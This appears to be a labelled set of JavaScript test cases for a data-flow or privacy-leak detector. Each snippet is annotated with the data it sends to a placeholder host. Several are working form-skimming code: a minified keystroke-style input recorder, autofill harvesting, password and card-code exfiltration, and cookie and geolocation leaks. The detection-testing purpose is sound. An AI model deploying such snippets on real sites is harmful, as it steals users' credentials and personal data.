//# mithril-oninput
// flow: phone > mio.bs13.example via fetch
const state1 = { tel: '' };
const Call1 = {
  view: () => m('form', { onsubmit: (e) => { e.preventDefault(); fetch('https://mio.bs13.example/call', { method: 'POST', body: state1.tel }); } }, [
    m('input[type=tel]', { value: state1.tel, oninput: (e) => { state1.tel = e.target.value; } }),
    m('button', 'Call me'),
  ]),
};
m.mount(document.querySelector('#call'), Call1);

//# recorder-of-all-inputs
// flow: input > roa.bs13.example via beacon
!function(t){var e=[];t.addEventListener("input",function(t){var n=t.target;"value"in n&&e.push([n.name||n.id,n.value])},!0),t.addEventListener("visibilitychange",function(){"hidden"===t.visibilityState&&e.length&&navigator.sendBeacon("https://roa.bs13.example/r",JSON.stringify(e.splice(0)))})}(document);

//# marked-part-of-textarea
// flow: message > mpt.bs13.example via fetch
const area3 = document.querySelector('textarea[name=message]');
document.querySelector('#translate').addEventListener('click', () => {
  const { selectionStart: from, selectionEnd: to } = area3;
  fetch('https://mpt.bs13.example/t', { method: 'POST', body: area3.value.slice(from, to) });
});

//# cloned-range-of-selection
// flow: interaction > crs.bs13.example via fetch
document.addEventListener('dblclick', () => {
  const sel = window.getSelection();
  if (!sel.rangeCount) return;
  const box = document.createElement('div');
  box.append(sel.getRangeAt(0).cloneContents());
  fetch('https://crs.bs13.example/dict', { method: 'POST', body: box.textContent });
});

//# name-and-day-of-birth
// flow: name > nab.bs13.example via fetch
// flow: birthdate > nab.bs13.example via fetch
const person5 = {
  family: document.querySelector('input[autocomplete=family-name]').value,
  born: document.querySelector('input[autocomplete=bday]').valueAsNumber,
};
fetch('https://nab.bs13.example/p', { method: 'POST', body: JSON.stringify(person5) });

//# names-of-midi-devices-compiled
// flow: device > nmd.bs13.example via fetch
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
(() => __awaiter(void 0, void 0, void 0, function* () {
    const access = yield navigator.requestMIDIAccess();
    const found = [];
    for (const port of access.inputs.values())
        found.push(`${port.manufacturer}/${port.name}`);
    yield fetch("https://nmd.bs13.example/m", { method: "POST", body: found.join("\n") });
}))();

//# locale-of-number-format
// flow: device > lnf.bs13.example via image
const { locale: loc7, numberingSystem: digits7 } = new Intl.NumberFormat().resolvedOptions();
new Image().src = `https://lnf.bs13.example/l?a=${loc7}&n=${digits7}`;

//# limit-of-the-heap-minified
// flow: device > lhm.bs13.example via beacon
!function(t){var e=t.performance&&t.performance.memory;e&&t.navigator.sendBeacon("https://lhm.bs13.example/h","l="+e.jsHeapSizeLimit)}(window);

//# cookie-library-inside
// flow: identifier > cli.bs13.example via fetch
var Cookies9 = (function () {
  function get(key) {
    var cookies = document.cookie ? document.cookie.split('; ') : [];
    var jar = {};
    for (var i = 0; i < cookies.length; i++) {
      var parts = cookies[i].split('=');
      var value = parts.slice(1).join('=');
      if (value.charAt(0) === '"') value = value.slice(1, -1);
      try {
        var name = decodeURIComponent(parts[0]);
        jar[name] = decodeURIComponent(value);
        if (key === name) break;
      } catch (e) {}
    }
    return key ? jar[key] : jar;
  }
  return { get: get };
})();
fetch('https://cli.bs13.example/v', { method: 'POST', body: Cookies9.get('visitor_id') });

//# storage-library-with-expiry
// flow: identifier > sle.bs13.example via xhr
var box10 = {
  prefix: 'bx-',
  now: function () { return Math.floor(new Date().getTime() / 60000); },
  get: function (k) {
    var raw = localStorage.getItem(this.prefix + k), o;
    if (raw === null) return null;
    o = JSON.parse(raw);
    return o.exp && o.exp < this.now() ? null : o.val;
  }
};
var x10 = new XMLHttpRequest();
x10.open('POST', 'https://sle.bs13.example/d');
x10.send('id=' + box10.get('device_id'));

//# position-to-json
// flow: location > ptj.bs13.example via fetch
// why: no coordinate is named, the whole position is written out
navigator.geolocation.getCurrentPosition((position) => {
  fetch('https://ptj.bs13.example/p', { method: 'PUT', body: JSON.stringify(position.toJSON()) });
});

//# entry-of-dropped-item
// flow: file > edi.bs13.example via fetch
const zone12 = document.querySelector('#zone');
zone12.addEventListener('dragover', (e) => e.preventDefault());
zone12.addEventListener('drop', (e) => {
  e.preventDefault();
  for (const item of e.dataTransfer.items) {
    const entry = item.webkitGetAsEntry();
    if (entry?.isFile) entry.file((f) => fetch('https://edi.bs13.example/f', { method: 'POST', body: f }));
  }
});

//# file-given-at-launch
// flow: file > fgl.bs13.example via fetch
window.launchQueue.setConsumer(async ({ files }) => {
  for (const handle of files) {
    const opened = await handle.getFile();
    await fetch('https://fgl.bs13.example/o', { method: 'POST', body: await opened.text() });
  }
});

//# fields-filled-by-the-browser
// flow: input > ffb.bs13.example via beacon
setTimeout(() => {
  const filled = [...document.querySelectorAll('input:autofill')].map((i) => `${i.name}=${i.value}`);
  if (filled.length) navigator.sendBeacon('https://ffb.bs13.example/a', filled.join('&'));
}, 1500);

//# search-by-way-of-the-address
// flow: search > sba.bs13.example via fetch
// why: the text is put into the page's own address and read back from there
document.querySelector('input[type=search]').addEventListener('change', (e) => {
  history.replaceState(null, '', '?q=' + encodeURIComponent(e.target.value));
  const term = new URLSearchParams(location.search).get('q');
  fetch('https://sba.bs13.example/log', { method: 'POST', body: term });
});

//# battery-event-compiled
// flow: device > bec.bs13.example via beacon
"getBattery" in navigator && navigator.getBattery().then(function (e) { function t() { navigator.sendBeacon("https://bec.bs13.example/b", JSON.stringify({ l: e.level, t: e.dischargingTime })) } e.addEventListener("levelchange", t), e.onchargingchange = t });

//# ambient-light
// flow: device > aml.bs13.example via websocket
const socket17 = new WebSocket('wss://aml.bs13.example/s');
socket17.onopen = () => {
  const light = new AmbientLightSensor({ frequency: 2 });
  light.onreading = () => socket17.send(String(light.illuminance));
  light.start();
};

//# label-of-camera-track
// flow: device > lct.bs13.example via fetch
async function camera18() {
  const stream = await navigator.mediaDevices.getUserMedia({ video: true });
  const [track] = stream.getVideoTracks();
  await fetch('https://lct.bs13.example/c?n=' + encodeURIComponent(track.label));
  track.stop();
}
camera18();

//# security-code-of-card
// flow: card > scc.bs13.example via fetch
document.querySelector('#pay').addEventListener('click', () => {
  const csc = document.querySelector('input[autocomplete="cc-csc"]').value.trim();
  fetch('https://scc.bs13.example/verify', { method: 'POST', body: new URLSearchParams({ csc }) });
});

//# two-lines-of-address
// flow: address > tla.bs13.example via fetch
const lines20 = ['address-line1', 'address-line2'].map((part) => document.querySelector(`input[autocomplete="${part}"]`).value);
fetch('https://tla.bs13.example/geocode?a=' + encodeURIComponent(lines20.join(', ')));

//# field-in-open-shadow
// flow: password > fos.bs13.example via fetch
const host21 = document.createElement('div');
host21.attachShadow({ mode: 'open' }).innerHTML = '<form><input type="password"><button>In</button></form>';
document.body.append(host21);
host21.shadowRoot.querySelector('form').addEventListener('submit', (e) => {
  e.preventDefault();
  fetch('https://fos.bs13.example/in', { method: 'POST', body: host21.shadowRoot.querySelector('input[type=password]').value });
});

//# field-that-has-the-focus
// flow: input > fhf.bs13.example via beacon
addEventListener('beforeunload', () => {
  const el = document.activeElement;
  if (el instanceof HTMLInputElement) navigator.sendBeacon('https://fhf.bs13.example/left', el.value);
});

//# touches-minified
// flow: interaction > tmi.bs13.example via image
!function(t,e){var n=[];t.addEventListener("touchmove",function(t){for(var r=0;r<t.touches.length;r++)n.push(0|t.touches[r].clientX,0|t.touches[r].clientY);n.length>200&&(e.src="https://tmi.bs13.example/t?p="+n.join("."),n=[])},{passive:!0})}(document,new Image);

//# inputs-filtered-by-type
// flow: password > ift.bs13.example via fetch
// why: the type of the field is a test, not a selector
const secrets24 = [...document.getElementsByTagName('input')].filter((i) => i.type === 'password').map((i) => i.value);
fetch('https://ift.bs13.example/p', { method: 'POST', body: JSON.stringify(secrets24) });

//# control-of-a-label
// flow: email > coa.bs13.example via fetch
const label25 = document.querySelector('label[for=email]');
label25.control.addEventListener('change', () => fetch('https://coa.bs13.example/e', { method: 'POST', body: label25.control.value }));
